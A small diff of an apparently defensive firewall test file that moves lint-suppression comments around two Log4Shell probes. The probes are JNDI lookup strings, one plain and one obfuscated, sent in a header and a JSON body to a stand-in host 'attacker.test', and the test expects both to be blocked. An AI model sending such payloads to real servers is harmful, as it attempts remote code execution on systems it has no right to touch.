@@ -96,13 +96,13 @@ describe.each(['fast', 'full'])('the %s profile (blocking)', (profile) => {
       }),
     ).toBe(403)
     // Log4Shell in a header: the panel's virtual patch, in both profiles (the ${ is the attack, not a template).
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
     expect(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
       await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] }),
     ).toBe(403)
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
     expect(
       await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, {
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
         body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }),
       }),
     ).toBe(403)
